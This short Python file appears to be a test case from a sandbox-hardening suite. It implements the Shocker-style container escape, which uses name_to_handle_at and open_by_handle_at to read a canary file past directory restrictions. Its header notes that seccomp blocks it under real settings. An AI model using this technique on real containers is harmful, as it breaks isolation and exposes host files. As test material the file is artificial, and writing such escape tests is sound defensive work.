# title: open a file by the number of its inode, past every directory
# reference: https://github.com/gabrtv/shocker (breaking out of a container)
# real: killed: seccomp
# weakened: seccomp, landlock, mount_ns, privileges, user_ns, rlimits
# proof: canary
# needs: root

import ctypes
import os


def attack(worker):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
    mount = ctypes.c_int()
    worker.syscall("name_to_handle_at", -100, worker.secret.encode(), handle, ctypes.byref(mount), 0)
    root = os.open(os.path.dirname(worker.secret), os.O_RDONLY)
    return os.read(worker.syscall("open_by_handle_at", root, handle, os.O_RDONLY), 100).decode()
